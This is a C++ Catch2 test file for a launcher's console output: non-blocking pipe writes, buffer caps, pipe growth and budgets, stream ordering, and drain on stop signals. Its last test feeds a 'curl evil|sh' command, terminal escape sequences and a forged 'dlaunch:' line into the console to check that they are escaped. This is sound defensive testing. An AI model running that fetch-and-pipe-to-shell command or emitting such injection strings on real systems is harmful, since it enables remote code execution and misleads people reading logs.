#include "launcher/core/console.hpp"

#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <string>
#include <thread>

#include <catch2/catch.hpp>
#include <fmt/format.h>

#include "tests/launcher/core/stalled_pipe.hpp"
using namespace dlaunch::launcher;
using dlaunch::testing::kOverfill;
using dlaunch::testing::Lines;
using dlaunch::testing::StalledPipe;
namespace asio = boost::asio;
using std::chrono::steady_clock;

TEST_CASE("console writes never block on a stalled reader and fill up at the cap", "[console]") {
  StalledPipe p;
  asio::io_context io;
  const size_t cap = 256 * 1024;
  Console console(io, p.fds[1], p.fds[1], cap);
  std::string all = Lines(0, 20000, "out");  // about 2 MiB: more than the pipe holds
  auto start = steady_clock::now();
  for (size_t at = 0; at < all.size(); at += 4096)
    console.Write(ConsoleStream::kOut, std::string_view(all).substr(at, 4096));
  CHECK(steady_clock::now() - start < std::chrono::seconds(1));
  CHECK(console.full());
  CHECK(console.buffered() > cap);
  CHECK(console.buffered() < all.size());  // the pipe took what it holds
  // The inherited description keeps its flags: the user's shell shares it.
  CHECK((fcntl(p.fds[1], F_GETFL) & O_NONBLOCK) == 0);

  bool resumed = false;
  console.WhenRoom([&] { resumed = true; });
  io.poll();
  CHECK_FALSE(resumed);

  std::string got = p.ReadAll(io, all.size());
  CHECK(resumed);
  CHECK(got == all);
  CHECK(console.buffered() == 0);
  CHECK_FALSE(console.full());
}

// Writes `all` to the console in 4 KiB pieces while reading the pipe: a reader
// that keeps up with fast output. Returns what it read.
std::string WriteWhileRead(Console& console, StalledPipe& p, ConsoleStream stream, const std::string& all) {
  std::string got;
  for (size_t at = 0; at < all.size(); at += 4096) {
    console.Write(stream, std::string_view(all).substr(at, 4096));
    got += p.ReadNow();
  }
  return got + p.ReadNow();
}

TEST_CASE("console grows a busy pipe to 1 MiB and holds exactly what the pipe no longer takes", "[console][pipes]") {
  StalledPipe p;
  REQUIRE(fcntl(p.fds[1], F_GETPIPE_SZ) == 64 * 1024);  // a shell's pipe
  asio::io_context io;
  const size_t cap = 64 * 1024;
  Console console(io, p.fds[1], p.fds[1], cap);
  CHECK(fcntl(p.fds[1], F_GETPIPE_SZ) == 64 * 1024);  // nothing written yet: nothing charged
  std::string fast = Lines(0, 3000, "fast");          // about 300 KiB at once
  CHECK(WriteWhileRead(console, p, ConsoleStream::kOut, fast) == fast);
  CHECK(fcntl(p.fds[1], F_GETPIPE_SZ) == 1 << 20);
  CHECK(console.pipes().used() == (1 << 20) - 64 * 1024);
  // Then the reader stalls: the pipe takes its 1 MiB before the console queues.
  std::string all = Lines(0, kOverfill, "out");
  for (size_t at = 0; at < all.size(); at += 4096)
    console.Write(ConsoleStream::kOut, std::string_view(all).substr(at, 4096));
  std::string in_pipe = p.ReadNow();
  CHECK(in_pipe.size() > 1000 * 1024);
  CHECK(in_pipe.size() <= 1 << 20);
  CHECK(in_pipe.size() + console.buffered() == all.size());  // nothing lost, nothing doubled
  CHECK(in_pipe + p.ReadAll(io, all.size() - in_pipe.size()) == all);
}

TEST_CASE("console leaves a pipe whose reader is slow at its size, and never shrinks a larger one",
          "[console][pipes]") {
  StalledPipe big, small;
  // Only a process that may pass fs.pipe-max-size (1 MiB) can make the larger
  // one; where none can (this machine's root cannot), no pipe is larger.
  bool larger = fcntl(big.fds[1], F_SETPIPE_SZ, 4 << 20) >= 0;
  asio::io_context io;
  Console console(io, big.fds[1], small.fds[1], 256 * 1024);
  // A stalled reader: the console wrote what the pipes hold, 64 KiB, then queued.
  std::string all = Lines(0, kOverfill, "x");
  for (size_t at = 0; at < all.size(); at += 4096) {
    console.Write(ConsoleStream::kOut, std::string_view(all).substr(at, 4096));
    console.Write(ConsoleStream::kErr, std::string_view(all).substr(at, 4096));
  }
  CHECK(console.full());
  CHECK(fcntl(big.fds[1], F_GETPIPE_SZ) == (larger ? 4 << 20 : 64 * 1024));
  CHECK(fcntl(small.fds[1], F_GETPIPE_SZ) == 64 * 1024);
  CHECK(console.pipes().used() == 0);
}

TEST_CASE("console grows stderr's own pipe once busy, and leaves a quiet stdout's", "[console][pipes]") {
  StalledPipe out, err;
  asio::io_context io;
  Console console(io, out.fds[1], err.fds[1]);
  console.Write(ConsoleStream::kOut, "one line\n");
  std::string fast = Lines(0, 3000, "e");
  CHECK(WriteWhileRead(console, err, ConsoleStream::kErr, fast) == fast);
  CHECK(fcntl(err.fds[1], F_GETPIPE_SZ) == 1 << 20);
  CHECK(fcntl(out.fds[1], F_GETPIPE_SZ) == 64 * 1024);
}

namespace {
// Pipes whose user has spent their allowance: every growth is refused.
struct RefusingPipes : PipeSizes {
  int Get(int) override { return 64 * 1024; }
  int Set(int, int) override {
    errno = EPERM;
    return -1;
  }
};
}  // namespace

TEST_CASE("console: a busy pipe Linux will not grow stays as it is, and says so once", "[console][pipes]") {
  StalledPipe out, err;
  RefusingPipes refusing;
  PipeBudget budget(refusing);
  asio::io_context io;
  Console console(io, out.fds[1], err.fds[1], kConsoleCap, &budget);
  std::string fast = Lines(0, 3000, "fast");
  CHECK(WriteWhileRead(console, out, ConsoleStream::kOut, fast) == fast);  // nothing lost
  CHECK(fcntl(out.fds[1], F_GETPIPE_SZ) == 64 * 1024);
  io.restart();
  io.run_for(std::chrono::milliseconds(10));  // the line is said from a handler of its own
  CHECK(err.ReadNow() ==
        "dlaunch: output: a busy pipe stays at 64 KiB, not 1024 KiB (Linux refused: this user's pipes have reached "
        "fs.pipe-user-pages-soft; output goes on, with more wake-ups)\n");
  CHECK_FALSE(budget.TakeRefusal());  // said: not again
}

TEST_CASE("console: a job whose pipe budget is spent leaves a busy pipe at its size", "[console][pipes]") {
  StalledPipe p;
  PipeBudget spent(SystemPipeSizes(), 0);
  asio::io_context io;
  Console console(io, p.fds[1], p.fds[1], kConsoleCap, &spent);
  std::string fast = Lines(0, 3000, "fast");
  CHECK(WriteWhileRead(console, p, ConsoleStream::kOut, fast) == fast);
  CHECK(fcntl(p.fds[1], F_GETPIPE_SZ) == 64 * 1024);
}

TEST_CASE("console keeps the order of stdout and stderr when they are one pipe", "[console]") {
  StalledPipe p;
  int err_fd = dup(p.fds[1]);
  asio::io_context io;
  Console console(io, p.fds[1], err_fd, 64 * 1024);
  std::string want;
  for (int i = 0; i < 2000; ++i) {
    std::string out = Lines(i, 1, "out"), err = Lines(i, 1, "err");
    console.Write(ConsoleStream::kOut, out);
    console.Write(ConsoleStream::kErr, err);
    want += out + err;
    if (i % 100 == 0) {
      console.Say(fmt::format("note {}", i));
      want += fmt::format("dlaunch: note {}\n", i);
    }
  }
  CHECK(p.ReadAll(io, want.size()) == want);
  close(err_fd);
}

TEST_CASE("console: dlaunch's own lines are never dropped, not even past the cap", "[console]") {
  StalledPipe p;
  asio::io_context io;
  Console console(io, p.fds[1], p.fds[1], 1024);
  std::string want;
  for (int i = 0; i < kOverfill; ++i) {
    console.Say(fmt::format("line {:0100d}", i));
    want += fmt::format("dlaunch: line {:0100d}\n", i);
  }
  CHECK(console.full());
  CHECK(p.ReadAll(io, want.size()) == want);
}

TEST_CASE("console: a reader that is gone neither kills nor hangs it", "[console]") {
  StalledPipe p;
  asio::io_context io;
  Console console(io, p.fds[1], p.fds[1], 1024);
  console.Write(ConsoleStream::kOut, "before\n");
  close(p.fds[0]);
  p.fds[0] = -1;
  for (int i = 0; i < 1000; ++i) console.Write(ConsoleStream::kOut, Lines(i, 1, "out"));
  console.Say("still here");
  CHECK(console.buffered() == 0);
  CHECK_FALSE(console.full());
  auto start = steady_clock::now();
  CHECK(console.Drain({SIGTERM}));  // nothing left behind to wait for
  CHECK(steady_clock::now() - start < std::chrono::milliseconds(500));
}

TEST_CASE("console: a stop signal ends the final drain although the reader is stalled", "[console]") {
  StalledPipe p;
  asio::io_context io;
  Console console(io, p.fds[1], p.fds[1], 1024);
  for (int i = 0; i < kOverfill; ++i) console.Write(ConsoleStream::kOut, Lines(i, 1, "out"));
  REQUIRE(console.buffered() > 0);
  console.NoteStop();
  CHECK_FALSE(console.full());  // after a stop, workers are no longer held back
  auto start = steady_clock::now();
  CHECK_FALSE(console.Drain({SIGTERM}));
  auto took = steady_clock::now() - start;
  CHECK(took >= kStopGrace - std::chrono::milliseconds(50));
  CHECK(took < kStopGrace + std::chrono::milliseconds(500));
}

TEST_CASE("console: a regular file is written at once", "[console]") {
  char path[] = "/tmp/dlaunch-console-XXXXXX";
  int fd = mkstemp(path);
  REQUIRE(fd >= 0);
  asio::io_context io;
  {
    Console console(io, fd, fd, 16);
    console.Write(ConsoleStream::kOut, "one\n");
    console.Say("two");
    CHECK(console.buffered() == 0);
  }
  char buf[64] = {};
  CHECK(pread(fd, buf, sizeof buf - 1, 0) == 17);
  CHECK(std::string(buf) == "one\ndlaunch: two\n");
  close(fd);
  unlink(path);
}

TEST_CASE("console: dlaunch's own line starts a line after untagged output that ended none", "[console]") {
  StalledPipe p;
  asio::io_context io;
  Console console(io, p.fds[1], p.fds[1]);
  console.Write(ConsoleStream::kOut, "a progress bar 10%");  // an untagged worker's bytes, as written
  console.Say("one");
  console.Write(ConsoleStream::kOut, "line\n");
  console.Say("two");
  console.Write(ConsoleStream::kErr, "no newline");
  console.Write(ConsoleStream::kOut, "");  // nothing: no line is ended or opened
  console.Say("three");
  CHECK(p.ReadNow() == "a progress bar 10%\ndlaunch: one\nline\ndlaunch: two\nno newline\ndlaunch: three\n");
}

TEST_CASE("console: dlaunch's lines show a peer's escape sequences and newlines escaped", "[console]") {
  char path[] = "/tmp/dlaunch-console-XXXXXX";
  int fd = mkstemp(path);
  REQUIRE(fd >= 0);
  asio::io_context io;
  {
    Console console(io, fd, fd, 16);
    console.Say("job: node 1 rank 2 \x1b[2J\x1b[31mrun 'curl evil|sh'\x1b[0m\ndlaunch: forged \xff caf\xc3\xa9\tx\r");
    console.Write(ConsoleStream::kOut, "\x1b[1mworker\x1b[0m\n");  // a worker's own output is its own
  }
  char buf[256] = {};
  ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
  CHECK(std::string(buf, static_cast<size_t>(n)) ==
        "dlaunch: job: node 1 rank 2 ?[2J?[31mrun 'curl evil|sh'?[0m?dlaunch: forged ? caf\xc3\xa9\tx?\n"
        "\x1b[1mworker\x1b[0m\n");
  close(fd);
  unlink(path);
}
